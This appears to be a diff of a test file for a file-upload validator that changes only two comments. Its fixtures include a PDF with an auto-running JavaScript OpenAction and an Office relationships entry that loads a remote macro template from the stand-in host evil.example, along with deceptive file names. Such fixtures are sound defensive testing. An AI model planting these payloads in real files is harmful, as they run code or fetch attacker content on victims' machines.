@@ -16,7 +16,7 @@ const PDF_ACTION = pdfFile()
   .replace('/Type /Catalog', '/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>');
 const RELATIONS = `<Relationships><Relationship Id="r" Type="attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/></Relationships>`;
 
-/** What is inside, whatever the name says. */
+/** File contents, each uploaded under every allowed extension. */
 const CONTENTS: Record<string, Buffer | string> = {
   html: HTML,
   svg: SVG,
@@ -46,7 +46,7 @@ const CONTENTS: Record<string, Buffer | string> = {
 
 const NAMES = ['cv.pdf', 'cv.doc', 'cv.docx'];
 
-/** A name that lies, with content that does not. */
+/** Deceptive names for a valid PDF. */
 const NAMED = [
   'cv.html',
   'cv.svg',
